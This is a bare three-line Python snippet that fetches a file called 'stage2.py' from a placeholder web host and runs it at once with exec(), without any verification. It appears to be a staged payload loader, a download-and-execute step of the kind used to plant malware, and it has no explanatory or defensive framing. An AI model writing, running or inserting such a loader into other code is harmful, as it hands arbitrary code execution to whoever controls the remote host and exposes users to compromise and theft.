from urllib.request import urlopen
code = urlopen("https://raw.example.net/stage2.py").read().decode()
exec(code, {"__name__": "__main__"})
